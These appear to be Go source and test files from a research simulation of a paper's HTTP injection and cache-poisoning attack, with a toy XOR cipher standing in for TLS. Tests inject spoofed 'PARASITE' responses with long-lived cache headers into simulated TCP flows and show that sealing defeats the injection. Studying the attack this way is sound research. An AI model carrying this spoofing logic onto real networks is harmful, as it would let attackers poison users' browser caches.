package httpsim

import (
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
)

// Sealer frames and encrypts HTTP messages, standing in for TLS in the
// simulation. Its security model is deliberately simple: whoever knows the
// channel key can read and forge traffic; whoever does not, cannot. That
// is exactly the property the paper's discussion needs — an eavesdropper
// cannot inject into HTTPS flows *unless* it holds a fraudulent
// certificate for the domain (§V: "If our attacker uses a fraudulent
// certificate for some target domain it can similarly inject spoofed TCP
// segments into communication with that domain"), which in this model
// means it obtained the key.
type Sealer interface {
	// Seal frames and encrypts one message.
	Seal(plaintext []byte) []byte
	// Open decrypts the first complete frame in buf, returning the
	// plaintext and bytes consumed. It returns ErrSealIncomplete until a
	// full frame is buffered and ErrSealCorrupt for forgeries.
	Open(buf []byte) (plaintext []byte, consumed int, err error)
}

// Seal layer errors.
var (
	ErrSealIncomplete = errors.New("httpsim: sealed frame incomplete")
	ErrSealCorrupt    = errors.New("httpsim: sealed frame corrupt")
)

var sealMagic = [4]byte{'T', 'L', 'S', '1'}

// XORSealer is the toy cipher: a SHA-256-derived keystream XOR with an
// integrity tag. Not cryptography — a capability token for the simulator.
type XORSealer struct {
	// Key is the channel secret, conventionally "tls:" + host.
	Key string
}

var _ Sealer = XORSealer{}

func (x XORSealer) keystream(n int) []byte {
	out := make([]byte, 0, n+sha256.Size)
	var counter uint64
	for len(out) < n {
		var block [8]byte
		binary.BigEndian.PutUint64(block[:], counter)
		sum := sha256.Sum256(append([]byte(x.Key), block[:]...))
		out = append(out, sum[:]...)
		counter++
	}
	return out[:n]
}

func (x XORSealer) tag(ciphertext []byte) [8]byte {
	sum := sha256.Sum256(append([]byte("mac:"+x.Key), ciphertext...))
	var t [8]byte
	copy(t[:], sum[:8])
	return t
}

// Seal implements Sealer. Frame layout: magic(4) | len(4) | tag(8) | body.
func (x XORSealer) Seal(plaintext []byte) []byte {
	ks := x.keystream(len(plaintext))
	body := make([]byte, len(plaintext))
	for i := range plaintext {
		body[i] = plaintext[i] ^ ks[i]
	}
	out := make([]byte, 0, 16+len(body))
	out = append(out, sealMagic[:]...)
	var lenBuf [4]byte
	binary.BigEndian.PutUint32(lenBuf[:], uint32(len(body)))
	out = append(out, lenBuf[:]...)
	t := x.tag(body)
	out = append(out, t[:]...)
	out = append(out, body...)
	return out
}

// Open implements Sealer.
func (x XORSealer) Open(buf []byte) ([]byte, int, error) {
	if len(buf) < 16 {
		return nil, 0, ErrSealIncomplete
	}
	if [4]byte(buf[0:4]) != sealMagic {
		return nil, 0, fmt.Errorf("%w: bad magic", ErrSealCorrupt)
	}
	n := int(binary.BigEndian.Uint32(buf[4:8]))
	if n < 0 || n > 1<<30 {
		return nil, 0, fmt.Errorf("%w: bad length", ErrSealCorrupt)
	}
	if len(buf) < 16+n {
		return nil, 0, ErrSealIncomplete
	}
	var wantTag [8]byte
	copy(wantTag[:], buf[8:16])
	body := buf[16 : 16+n]
	if x.tag(body) != wantTag {
		return nil, 0, fmt.Errorf("%w: bad tag", ErrSealCorrupt)
	}
	ks := x.keystream(n)
	plaintext := make([]byte, n)
	for i := range body {
		plaintext[i] = body[i] ^ ks[i]
	}
	return plaintext, 16 + n, nil
}

// PlainSealer passes bytes through unframed; Open consumes everything
// buffered so far. It lets sealed and unsealed code paths share plumbing.
type PlainSealer struct{}

var _ Sealer = PlainSealer{}

// Seal returns the plaintext unchanged.
func (PlainSealer) Seal(plaintext []byte) []byte { return plaintext }

// Open returns the whole buffer.
func (PlainSealer) Open(buf []byte) ([]byte, int, error) { return buf, len(buf), nil }

// HostKey derives the conventional channel key for a host's TLS stand-in.
// A fraudulent certificate in this model is simply knowledge of HostKey(d)
// by someone other than d's real server.
func HostKey(host string) string { return "tls:" + host }
