// Package httpsim implements a small HTTP/1.1 layer over the tcpsim
// transport. Requests and responses use the standard textual wire format,
// so bytes crafted by the attacker (spoofed server responses, §V) are
// indistinguishable on the wire from genuine ones — which is the point of
// the attack.
//
// The layer is deliberately one-request-per-connection (Connection:
// close semantics): the experiments need many independent request/response
// races, not connection reuse.
package httpsim

import (
	"bytes"
	"errors"
	"fmt"
	"net/textproto"
	"sort"
	"strconv"
	"strings"
)

// Header is a single-valued header map with canonicalised keys.
type Header map[string]string

// Set stores value under the canonical form of key.
func (h Header) Set(key, value string) {
	h[textproto.CanonicalMIMEHeaderKey(key)] = value
}

// Get returns the value for key ("" when absent).
func (h Header) Get(key string) string {
	return h[textproto.CanonicalMIMEHeaderKey(key)]
}

// Has reports whether key is present.
func (h Header) Has(key string) bool {
	_, ok := h[textproto.CanonicalMIMEHeaderKey(key)]
	return ok
}

// Del removes key.
func (h Header) Del(key string) {
	delete(h, textproto.CanonicalMIMEHeaderKey(key))
}

// Clone returns an independent copy.
func (h Header) Clone() Header {
	out := make(Header, len(h))
	for k, v := range h {
		out[k] = v
	}
	return out
}

// keysSorted returns keys in deterministic order for marshalling.
func (h Header) keysSorted() []string {
	keys := make([]string, 0, len(h))
	for k := range h {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

// Request is an HTTP request message.
type Request struct {
	Method string
	Path   string // path plus optional query string
	Host   string
	Header Header
	Body   []byte
}

// NewRequest builds a GET-style request with an empty header map.
func NewRequest(method, host, path string) *Request {
	return &Request{Method: method, Host: host, Path: path, Header: Header{}}
}

// URL returns the host-qualified URL (scheme-less), the cache key space
// used throughout the system.
func (r *Request) URL() string { return r.Host + r.Path }

// Query returns the value of a query parameter, or "".
func (r *Request) Query(key string) string {
	i := strings.IndexByte(r.Path, '?')
	if i < 0 {
		return ""
	}
	for _, kv := range strings.Split(r.Path[i+1:], "&") {
		k, v, _ := strings.Cut(kv, "=")
		if k == key {
			return v
		}
	}
	return ""
}

// PathOnly returns the path with any query string removed.
func (r *Request) PathOnly() string {
	if i := strings.IndexByte(r.Path, '?'); i >= 0 {
		return r.Path[:i]
	}
	return r.Path
}

// appendHeaderLine appends "k: v\r\n".
func appendHeaderLine(b []byte, k, v string) []byte {
	b = append(b, k...)
	b = append(b, ": "...)
	b = append(b, v...)
	return append(b, '\r', '\n')
}

// Marshal encodes the request in HTTP/1.1 wire format. The message is
// assembled into one exact-size allocation (plus the sorted key
// scratch) — this sits under every simulated fetch.
func (r *Request) Marshal() []byte {
	hdr := r.Header
	keys := hdr.keysSorted()
	n := len(r.Method) + 1 + len(r.Path) + len(" HTTP/1.1\r\n") +
		len("Host: ") + len(r.Host) + 2
	for _, k := range keys {
		if k == "Host" || k == "Content-Length" {
			continue
		}
		n += len(k) + 2 + len(hdr[k]) + 2
	}
	if len(r.Body) > 0 {
		n += len("Content-Length: ") + intLen(len(r.Body)) + 2
	}
	n += 2 + len(r.Body)

	b := make([]byte, 0, n)
	b = append(b, r.Method...)
	b = append(b, ' ')
	b = append(b, r.Path...)
	b = append(b, " HTTP/1.1\r\n"...)
	b = appendHeaderLine(b, "Host", r.Host)
	for _, k := range keys {
		if k == "Host" || k == "Content-Length" {
			continue
		}
		b = appendHeaderLine(b, k, hdr[k])
	}
	if len(r.Body) > 0 {
		b = append(b, "Content-Length: "...)
		b = strconv.AppendInt(b, int64(len(r.Body)), 10)
		b = append(b, '\r', '\n')
	}
	b = append(b, '\r', '\n')
	return append(b, r.Body...)
}

// Response is an HTTP response message.
type Response struct {
	StatusCode int
	Status     string
	Header     Header
	Body       []byte
}

// NewResponse builds a response with standard status text.
func NewResponse(code int, body []byte) *Response {
	return &Response{StatusCode: code, Status: statusText(code), Header: Header{}, Body: body}
}

func statusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 304:
		return "Not Modified"
	case 400:
		return "Bad Request"
	case 403:
		return "Forbidden"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	default:
		return "Unknown"
	}
}

// intLen returns the decimal digit count of a non-negative int.
func intLen(v int) int {
	n := 1
	for v >= 10 {
		v /= 10
		n++
	}
	return n
}

// Marshal encodes the response in HTTP/1.1 wire format with an explicit
// Content-Length — this is also the byte string the attacker injects.
// Like Request.Marshal, it assembles the message into one exact-size
// allocation.
func (r *Response) Marshal() []byte {
	status := r.Status
	if status == "" {
		status = statusText(r.StatusCode)
	}
	hdr := r.Header
	keys := hdr.keysSorted()
	n := len("HTTP/1.1 ") + intLen(r.StatusCode) + 1 + len(status) + 2
	for _, k := range keys {
		if k == "Content-Length" {
			continue
		}
		n += len(k) + 2 + len(hdr[k]) + 2
	}
	n += len("Content-Length: ") + intLen(len(r.Body)) + 2 + 2 + len(r.Body)

	b := make([]byte, 0, n)
	b = append(b, "HTTP/1.1 "...)
	b = strconv.AppendInt(b, int64(r.StatusCode), 10)
	b = append(b, ' ')
	b = append(b, status...)
	b = append(b, '\r', '\n')
	for _, k := range keys {
		if k == "Content-Length" {
			continue
		}
		b = appendHeaderLine(b, k, hdr[k])
	}
	b = append(b, "Content-Length: "...)
	b = strconv.AppendInt(b, int64(len(r.Body)), 10)
	b = append(b, '\r', '\n', '\r', '\n')
	return append(b, r.Body...)
}

// Errors returned by the parsers.
var (
	ErrIncomplete = errors.New("httpsim: incomplete message")
	ErrMalformed  = errors.New("httpsim: malformed message")
)

// splitHead returns the header block and the byte offset of the body, or
// ErrIncomplete when the blank line has not arrived yet.
func splitHead(data []byte) (head []byte, bodyOff int, err error) {
	i := bytes.Index(data, []byte("\r\n\r\n"))
	if i < 0 {
		return nil, 0, ErrIncomplete
	}
	return data[:i], i + 4, nil
}

// parseHead converts the header block into one string (the only parse
// allocation besides the header map itself — every line, key, and value
// is a substring of it) and splits off the start line.
func parseHead(head []byte) (startLine, rest string) {
	s := string(head)
	if i := strings.Index(s, "\r\n"); i >= 0 {
		return s[:i], s[i+2:]
	}
	return s, ""
}

// parseHeaders decodes "Key: value\r\n" lines from the header block,
// walking line by line instead of materialising a []string split.
func parseHeaders(s string) (Header, error) {
	h := make(Header, 8)
	for len(s) > 0 {
		ln := s
		if i := strings.Index(s, "\r\n"); i >= 0 {
			ln, s = s[:i], s[i+2:]
		} else {
			s = ""
		}
		if ln == "" {
			continue
		}
		k, v, ok := strings.Cut(ln, ":")
		if !ok {
			return nil, fmt.Errorf("%w: header line %q", ErrMalformed, ln)
		}
		h.Set(strings.TrimSpace(k), strings.TrimSpace(v))
	}
	return h, nil
}

// contentLength reads and validates the Content-Length header (0 when
// absent).
func contentLength(hdr Header) (int, error) {
	v := hdr.Get("Content-Length")
	if v == "" {
		return 0, nil
	}
	clen, err := strconv.Atoi(v)
	if err != nil || clen < 0 {
		return 0, fmt.Errorf("%w: content-length %q", ErrMalformed, v)
	}
	return clen, nil
}

// ParseRequest decodes one request from data, returning the message and
// the number of bytes consumed. It returns ErrIncomplete until a full
// message is buffered. The returned Body aliases data — callers that
// mutate or recycle the wire buffer must copy it first (the simulated
// stacks never do: wire buffers are written once per message).
func ParseRequest(data []byte) (*Request, int, error) {
	head, bodyOff, err := splitHead(data)
	if err != nil {
		return nil, 0, err
	}
	startLine, rest := parseHead(head)
	parts := strings.SplitN(startLine, " ", 3)
	if len(parts) != 3 || !strings.HasPrefix(parts[2], "HTTP/") {
		return nil, 0, fmt.Errorf("%w: request line %q", ErrMalformed, startLine)
	}
	hdr, err := parseHeaders(rest)
	if err != nil {
		return nil, 0, err
	}
	clen, err := contentLength(hdr)
	if err != nil {
		return nil, 0, err
	}
	if len(data) < bodyOff+clen {
		return nil, 0, ErrIncomplete
	}
	req := &Request{
		Method: parts[0],
		Path:   parts[1],
		Host:   hdr.Get("Host"),
		Header: hdr,
		Body:   data[bodyOff : bodyOff+clen : bodyOff+clen],
	}
	hdr.Del("Host")
	return req, bodyOff + clen, nil
}

// ParseResponse decodes one response from data, returning the message and
// bytes consumed, or ErrIncomplete. Like ParseRequest, the returned Body
// is a zero-copy view of data.
func ParseResponse(data []byte) (*Response, int, error) {
	head, bodyOff, err := splitHead(data)
	if err != nil {
		return nil, 0, err
	}
	startLine, rest := parseHead(head)
	parts := strings.SplitN(startLine, " ", 3)
	if len(parts) < 2 || !strings.HasPrefix(parts[0], "HTTP/") {
		return nil, 0, fmt.Errorf("%w: status line %q", ErrMalformed, startLine)
	}
	code, err := strconv.Atoi(parts[1])
	if err != nil {
		return nil, 0, fmt.Errorf("%w: status code %q", ErrMalformed, parts[1])
	}
	status := ""
	if len(parts) == 3 {
		status = parts[2]
	}
	hdr, err := parseHeaders(rest)
	if err != nil {
		return nil, 0, err
	}
	clen, err := contentLength(hdr)
	if err != nil {
		return nil, 0, err
	}
	if len(data) < bodyOff+clen {
		return nil, 0, ErrIncomplete
	}
	return &Response{
		StatusCode: code,
		Status:     status,
		Header:     hdr,
		Body:       data[bodyOff : bodyOff+clen : bodyOff+clen],
	}, bodyOff + clen, nil
}
