package httpsim

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"masterparasite/internal/netsim"
	"masterparasite/internal/tcpsim"
)

func TestRequestMarshalParseRoundTrip(t *testing.T) {
	req := NewRequest("GET", "example.com", "/js/app.js?v=3")
	req.Header.Set("User-Agent", "sim/1.0")
	req.Header.Set("If-None-Match", `"abc"`)
	out, n, err := ParseRequest(req.Marshal())
	if err != nil {
		t.Fatalf("ParseRequest: %v", err)
	}
	if n != len(req.Marshal()) {
		t.Fatalf("consumed %d, want %d", n, len(req.Marshal()))
	}
	if out.Method != "GET" || out.Host != "example.com" || out.Path != "/js/app.js?v=3" {
		t.Fatalf("bad round trip: %+v", out)
	}
	if out.Header.Get("user-agent") != "sim/1.0" {
		t.Fatal("case-insensitive header lookup failed")
	}
}

func TestRequestWithBody(t *testing.T) {
	req := NewRequest("POST", "example.com", "/login")
	req.Body = []byte("user=alice&pass=secret")
	out, _, err := ParseRequest(req.Marshal())
	if err != nil {
		t.Fatalf("ParseRequest: %v", err)
	}
	if !bytes.Equal(out.Body, req.Body) {
		t.Fatalf("body = %q", out.Body)
	}
}

func TestResponseMarshalParseRoundTrip(t *testing.T) {
	resp := NewResponse(200, []byte("console.log(1)"))
	resp.Header.Set("Content-Type", "application/javascript")
	resp.Header.Set("Cache-Control", "max-age=31536000")
	out, _, err := ParseResponse(resp.Marshal())
	if err != nil {
		t.Fatalf("ParseResponse: %v", err)
	}
	if out.StatusCode != 200 || out.Status != "OK" {
		t.Fatalf("status = %d %q", out.StatusCode, out.Status)
	}
	if out.Header.Get("Cache-Control") != "max-age=31536000" {
		t.Fatal("header lost")
	}
	if !bytes.Equal(out.Body, resp.Body) {
		t.Fatalf("body = %q", out.Body)
	}
}

func TestParseIncomplete(t *testing.T) {
	full := NewResponse(200, []byte("abcdef")).Marshal()
	for cut := 0; cut < len(full); cut++ {
		if _, _, err := ParseResponse(full[:cut]); err == nil {
			t.Fatalf("prefix of %d bytes parsed as complete", cut)
		}
	}
	if _, _, err := ParseResponse(full); err != nil {
		t.Fatalf("full message failed: %v", err)
	}
}

func TestParseMalformed(t *testing.T) {
	cases := []string{
		"NOT-HTTP\r\n\r\n",
		"HTTP/1.1 abc OK\r\n\r\n",
		"HTTP/1.1 200 OK\r\nBadHeader\r\n\r\n",
		"HTTP/1.1 200 OK\r\nContent-Length: -5\r\n\r\n",
	}
	for _, c := range cases {
		if _, _, err := ParseResponse([]byte(c)); err == nil {
			t.Errorf("malformed %q parsed", c)
		}
	}
	if _, _, err := ParseRequest([]byte("GET /\r\n\r\n")); err == nil {
		t.Error("malformed request line parsed")
	}
}

func TestHeaderRoundTripProperty(t *testing.T) {
	f := func(body []byte) bool {
		resp := NewResponse(200, body)
		out, n, err := ParseResponse(resp.Marshal())
		return err == nil && n == len(resp.Marshal()) && bytes.Equal(out.Body, body)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestQueryAndPathOnly(t *testing.T) {
	req := NewRequest("GET", "a.com", "/x/y.js?t=500198&cb=9")
	if got := req.Query("t"); got != "500198" {
		t.Fatalf("Query(t) = %q", got)
	}
	if got := req.Query("cb"); got != "9" {
		t.Fatalf("Query(cb) = %q", got)
	}
	if got := req.Query("nope"); got != "" {
		t.Fatalf("Query(nope) = %q", got)
	}
	if got := req.PathOnly(); got != "/x/y.js" {
		t.Fatalf("PathOnly = %q", got)
	}
	if got := req.URL(); got != "a.com/x/y.js?t=500198&cb=9" {
		t.Fatalf("URL = %q", got)
	}
}

func TestHeaderOps(t *testing.T) {
	h := Header{}
	h.Set("x-frame-options", "DENY")
	if !h.Has("X-Frame-Options") {
		t.Fatal("Has failed")
	}
	h.Del("X-FRAME-OPTIONS")
	if h.Has("X-Frame-Options") {
		t.Fatal("Del failed")
	}
	h.Set("A", "1")
	clone := h.Clone()
	clone.Set("A", "2")
	if h.Get("A") != "1" {
		t.Fatal("Clone aliases original")
	}
}

func newHTTPLab(t *testing.T) (*netsim.Network, *netsim.Segment, *Client, *tcpsim.Stack) {
	t.Helper()
	n := netsim.New()
	seg := n.MustSegment("net", time.Millisecond)
	cIfc := seg.MustAttach("client", 0, nil)
	sIfc := seg.MustAttach("server", 4*time.Millisecond, nil)
	client := NewClient(tcpsim.NewStack(n, cIfc, tcpsim.WithSeed(3)))
	serverStack := tcpsim.NewStack(n, sIfc, tcpsim.WithSeed(5))
	return n, seg, client, serverStack
}

func TestClientServerEndToEnd(t *testing.T) {
	n, _, client, serverStack := newHTTPLab(t)
	srv, err := NewServer(serverStack, 80, func(req *Request) *Response {
		if req.PathOnly() != "/lib.js" {
			return NewResponse(404, nil)
		}
		resp := NewResponse(200, []byte("var x=1;"))
		resp.Header.Set("Content-Type", "application/javascript")
		return resp
	})
	if err != nil {
		t.Fatalf("NewServer: %v", err)
	}
	var got *Response
	client.Get("server", 80, "cdn.example.com", "/lib.js", func(r *Response, err error) {
		if err != nil {
			t.Errorf("get: %v", err)
			return
		}
		got = r
	})
	n.Run(0)
	if got == nil {
		t.Fatal("no response")
	}
	if got.StatusCode != 200 || string(got.Body) != "var x=1;" {
		t.Fatalf("response = %d %q", got.StatusCode, got.Body)
	}
	if srv.Requests() != 1 {
		t.Fatalf("server requests = %d", srv.Requests())
	}
}

func TestLargeResponseAcrossSegments(t *testing.T) {
	n, _, client, serverStack := newHTTPLab(t)
	body := bytes.Repeat([]byte("0123456789"), 2000) // 20 KB > several MSS
	if _, err := NewServer(serverStack, 80, func(*Request) *Response {
		return NewResponse(200, body)
	}); err != nil {
		t.Fatalf("NewServer: %v", err)
	}
	var got *Response
	client.Get("server", 80, "big.com", "/big.js", func(r *Response, err error) { got = r })
	n.Run(0)
	if got == nil || !bytes.Equal(got.Body, body) {
		t.Fatal("large body corrupted")
	}
}

func TestInjectedResponseWinsEndToEnd(t *testing.T) {
	// Full-stack reproduction of Fig. 2 steps 1-2: the attacker's spoofed
	// HTTP response is what the HTTP client parses; the genuine one is
	// discarded by the transport.
	n, seg, client, serverStack := newHTTPLab(t)
	if _, err := NewServer(serverStack, 80, func(*Request) *Response {
		return NewResponse(200, []byte("GENUINE"))
	}); err != nil {
		t.Fatalf("NewServer: %v", err)
	}
	evil := NewResponse(200, []byte("PARASITE"))
	evil.Header.Set("Cache-Control", "max-age=31536000")
	evilBytes := evil.Marshal()

	var sniffer *tcpsim.Sniffer
	sniffer = tcpsim.NewSniffer(seg, 0, func(o tcpsim.Observed) {
		if o.Seg.DstPort == 80 && len(o.Seg.Payload) > 0 &&
			bytes.HasPrefix(o.Seg.Payload, []byte("GET ")) {
			sniffer.Tap().Inject(tcpsim.SpoofReply(o, evilBytes))
		}
	})

	var got *Response
	client.Get("server", 80, "somesite.com", "/my.js", func(r *Response, err error) { got = r })
	n.Run(0)
	if got == nil {
		t.Fatal("no response")
	}
	if string(got.Body) != "PARASITE" {
		t.Fatalf("client parsed %q, want PARASITE", got.Body)
	}
	if got.Header.Get("Cache-Control") != "max-age=31536000" {
		t.Fatal("attacker-controlled cache headers lost")
	}
}

func TestNilHandlerResponseBecomes500(t *testing.T) {
	n, _, client, serverStack := newHTTPLab(t)
	if _, err := NewServer(serverStack, 80, func(*Request) *Response { return nil }); err != nil {
		t.Fatalf("NewServer: %v", err)
	}
	var got *Response
	client.Get("server", 80, "h.com", "/", func(r *Response, err error) { got = r })
	n.Run(0)
	if got == nil || got.StatusCode != 500 {
		t.Fatalf("got %+v, want 500", got)
	}
}

func TestStatusTexts(t *testing.T) {
	for code, want := range map[int]string{200: "OK", 304: "Not Modified", 404: "Not Found", 999: "Unknown"} {
		if got := NewResponse(code, nil).Status; got != want {
			t.Errorf("status %d = %q, want %q", code, got, want)
		}
	}
}

func TestMarshalDeterministicHeaderOrder(t *testing.T) {
	r := NewResponse(200, nil)
	r.Header.Set("B-Header", "2")
	r.Header.Set("A-Header", "1")
	m := string(r.Marshal())
	if strings.Index(m, "A-Header") > strings.Index(m, "B-Header") {
		t.Fatal("headers not sorted deterministically")
	}
}

// TestParseResponseZeroCopyBody pins the zero-copy contract: the parsed
// body is a view of the wire buffer, not a copy, and is capacity-clamped
// so appending to it cannot scribble past the message.
func TestParseResponseZeroCopyBody(t *testing.T) {
	resp := NewResponse(200, []byte("payload"))
	wire := resp.Marshal()
	out, n, err := ParseResponse(wire)
	if err != nil {
		t.Fatal(err)
	}
	if string(out.Body) != "payload" {
		t.Fatalf("body = %q", out.Body)
	}
	if &out.Body[0] != &wire[n-len(out.Body)] {
		t.Fatal("body was copied; want a view of the wire buffer")
	}
	if cap(out.Body) != len(out.Body) {
		t.Fatal("body capacity not clamped to its length")
	}
}

// TestMessageCodecAllocs locks in the allocation budget of the HTTP
// codec under the crawler, the proxy cache, and the C&C channel.
// Skipped in -short mode: the CI race detector perturbs counts.
func TestMessageCodecAllocs(t *testing.T) {
	if testing.Short() {
		t.Skip("allocation counts shift under -race; tier-1 runs this")
	}
	resp := NewResponse(200, bytes.Repeat([]byte("b"), 4096))
	resp.Header.Set("Cache-Control", "max-age=60")
	wire := resp.Marshal()

	parse := testing.AllocsPerRun(500, func() {
		if _, _, err := ParseResponse(wire); err != nil {
			t.Fatal(err)
		}
	})
	// Measured 4 (head string, header map, start-line split, message
	// struct); the body is zero-copy. Historical parser took 7+.
	if parse > 5 {
		t.Errorf("ParseResponse allocs/op = %.0f, want <= 5", parse)
	}

	marshal := testing.AllocsPerRun(500, func() {
		if len(resp.Marshal()) == 0 {
			t.Fatal("empty marshal")
		}
	})
	// Measured 2: the exact-size message and the sorted-key scratch.
	if marshal > 3 {
		t.Errorf("Response.Marshal allocs/op = %.0f, want <= 3", marshal)
	}
}
