package httpsim

import (
	"bytes"
	"errors"
	"testing"
	"testing/quick"
	"time"

	"masterparasite/internal/netsim"
	"masterparasite/internal/tcpsim"
)

func TestXORSealerRoundTrip(t *testing.T) {
	s := XORSealer{Key: HostKey("bank.com")}
	msg := []byte("GET /account HTTP/1.1\r\n\r\n")
	sealed := s.Seal(msg)
	if bytes.Contains(sealed, []byte("GET")) {
		t.Fatal("plaintext visible in sealed frame")
	}
	got, n, err := s.Open(sealed)
	if err != nil {
		t.Fatal(err)
	}
	if n != len(sealed) || !bytes.Equal(got, msg) {
		t.Fatalf("round trip: n=%d got=%q", n, got)
	}
}

func TestXORSealerRoundTripProperty(t *testing.T) {
	f := func(key string, msg []byte) bool {
		s := XORSealer{Key: key}
		got, n, err := s.Open(s.Seal(msg))
		return err == nil && n == len(s.Seal(msg)) && bytes.Equal(got, msg)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestXORSealerWrongKeyRejected(t *testing.T) {
	sealed := XORSealer{Key: HostKey("bank.com")}.Seal([]byte("secret"))
	if _, _, err := (XORSealer{Key: HostKey("evil.com")}).Open(sealed); !errors.Is(err, ErrSealCorrupt) {
		t.Fatalf("wrong-key open err = %v, want corrupt", err)
	}
}

func TestXORSealerIncomplete(t *testing.T) {
	s := XORSealer{Key: "k"}
	sealed := s.Seal([]byte("hello, this is a message"))
	for cut := 0; cut < len(sealed); cut++ {
		if _, _, err := s.Open(sealed[:cut]); !errors.Is(err, ErrSealIncomplete) && !errors.Is(err, ErrSealCorrupt) {
			t.Fatalf("cut=%d err=%v", cut, err)
		}
	}
}

func TestXORSealerTamperDetected(t *testing.T) {
	s := XORSealer{Key: "k"}
	sealed := s.Seal([]byte("amount=100"))
	sealed[len(sealed)-1] ^= 0xFF
	if _, _, err := s.Open(sealed); !errors.Is(err, ErrSealCorrupt) {
		t.Fatalf("tampered open err = %v", err)
	}
}

func TestPlainSealerPassthrough(t *testing.T) {
	p := PlainSealer{}
	msg := []byte("x")
	got, n, err := p.Open(p.Seal(msg))
	if err != nil || n != 1 || !bytes.Equal(got, msg) {
		t.Fatal("plain sealer misbehaved")
	}
}

func TestSealedEndToEndDefeatsInjection(t *testing.T) {
	// The §V Discussion in one test: over the sealed channel the
	// attacker's spoofed plaintext poisons the record stream — the
	// channel aborts and the parasite never reaches the HTTP layer (the
	// injection degrades to at worst a DoS). With the fraudulent
	// certificate (= key knowledge) the injection works again.
	run := func(attackerHasCert bool) string {
		n := netsim.New()
		seg := n.MustSegment("wifi", time.Millisecond)
		cIfc := seg.MustAttach("client", 0, nil)
		sIfc := seg.MustAttach("server", 5*time.Millisecond, nil)
		client := NewClient(tcpsim.NewStack(n, cIfc, tcpsim.WithSeed(3)))
		serverStack := tcpsim.NewStack(n, sIfc, tcpsim.WithSeed(5))
		key := HostKey("bank.com")
		if _, err := NewServerSealed(serverStack, 443, XORSealer{Key: key}, func(*Request) *Response {
			return NewResponse(200, []byte("GENUINE"))
		}); err != nil {
			t.Fatalf("server: %v", err)
		}

		evil := NewResponse(200, []byte("PARASITE")).Marshal()
		var sniffer *tcpsim.Sniffer
		sniffer = tcpsim.NewSniffer(seg, 0, func(o tcpsim.Observed) {
			if o.Seg.DstPort == 443 && len(o.Seg.Payload) > 0 && o.Src == "client" {
				payload := evil
				if attackerHasCert {
					payload = XORSealer{Key: key}.Seal(evil)
				}
				sniffer.Tap().Inject(tcpsim.SpoofReply(o, payload))
			}
		})

		body := ""
		client.DoSealed("server", 443, XORSealer{Key: key},
			NewRequest("GET", "bank.com", "/"), func(r *Response, err error) {
				if err != nil {
					body = "CHANNEL-ABORT"
					return
				}
				body = string(r.Body)
			})
		n.Run(0)
		return body
	}

	if got := run(false); got != "CHANNEL-ABORT" {
		t.Fatalf("without cert: client got %q, want CHANNEL-ABORT (no parasite delivered)", got)
	}
	if got := run(true); got != "PARASITE" {
		t.Fatalf("with fraudulent cert: client got %q, want PARASITE", got)
	}
}

func TestSniffersSeeOnlyCiphertext(t *testing.T) {
	s := XORSealer{Key: HostKey("mail.com")}
	req := NewRequest("GET", "mail.com", "/inbox?token=SECRET")
	sealed := s.Seal(req.Marshal())
	for _, needle := range []string{"GET", "SECRET", "mail.com"} {
		if bytes.Contains(sealed, []byte(needle)) {
			t.Fatalf("sealed request leaks %q", needle)
		}
	}
}
