package httpsim

import (
	"errors"
	"fmt"

	"masterparasite/internal/netsim"
	"masterparasite/internal/tcpsim"
)

// HandlerFunc produces the response for a request. Returning nil yields a
// 500.
type HandlerFunc func(*Request) *Response

// Server serves HTTP over a tcpsim stack, one request per connection.
type Server struct {
	stack   *tcpsim.Stack
	handler HandlerFunc
	sealer  Sealer // nil for plaintext HTTP

	requests int
}

// NewServer starts a plaintext listener on port. The handler runs inside
// the netsim event loop.
func NewServer(stack *tcpsim.Stack, port uint16, handler HandlerFunc) (*Server, error) {
	return newServer(stack, port, nil, handler)
}

// NewServerSealed starts a sealed (HTTPS stand-in) listener: requests must
// open with the sealer's key and responses are sealed. An eavesdropper on
// the path sees only ciphertext.
func NewServerSealed(stack *tcpsim.Stack, port uint16, sealer Sealer, handler HandlerFunc) (*Server, error) {
	return newServer(stack, port, sealer, handler)
}

func newServer(stack *tcpsim.Stack, port uint16, sealer Sealer, handler HandlerFunc) (*Server, error) {
	s := &Server{stack: stack, handler: handler, sealer: sealer}
	err := stack.Listen(port, func(conn *tcpsim.Conn) {
		var buf []byte
		conn.OnData(func(b []byte) {
			buf = append(buf, b...)
			var reqBytes []byte
			if s.sealer != nil {
				plaintext, _, oerr := s.sealer.Open(buf)
				if oerr != nil {
					return // incomplete, or a forgery that cannot be opened
				}
				reqBytes = plaintext
			} else {
				reqBytes = buf
			}
			req, _, perr := ParseRequest(reqBytes)
			if perr != nil {
				return // incomplete or garbage; wait for more bytes
			}
			s.requests++
			resp := s.handler(req)
			if resp == nil {
				resp = NewResponse(500, []byte("internal error"))
			}
			out := resp.Marshal()
			if s.sealer != nil {
				out = s.sealer.Seal(out)
			}
			if _, werr := conn.Write(out); werr != nil {
				return
			}
			_ = conn.Close()
		})
	})
	if err != nil {
		return nil, fmt.Errorf("httpsim server: %w", err)
	}
	return s, nil
}

// Requests reports how many requests the server has handled.
func (s *Server) Requests() int { return s.requests }

// Client issues HTTP requests over a tcpsim stack. Completion is
// callback-based because the whole simulation runs inside one event loop.
type Client struct {
	stack *tcpsim.Stack
}

// NewClient wraps a stack.
func NewClient(stack *tcpsim.Stack) *Client { return &Client{stack: stack} }

// Do sends req to dst:port and invokes cb with the parsed response. The
// response delivered may be the genuine server's or an injected one —
// the client cannot tell, which is the vulnerability.
func (c *Client) Do(dst netsim.Addr, port uint16, req *Request, cb func(*Response, error)) {
	c.do(dst, port, nil, req, cb)
}

// DoSealed sends a sealed (HTTPS stand-in) request. Injected plaintext or
// wrong-key forgeries never reach the parser: the seal layer discards
// them, which is why HTTPS defeats the injection (§V Discussion).
func (c *Client) DoSealed(dst netsim.Addr, port uint16, sealer Sealer, req *Request, cb func(*Response, error)) {
	c.do(dst, port, sealer, req, cb)
}

func (c *Client) do(dst netsim.Addr, port uint16, sealer Sealer, req *Request, cb func(*Response, error)) {
	var buf []byte
	done := false
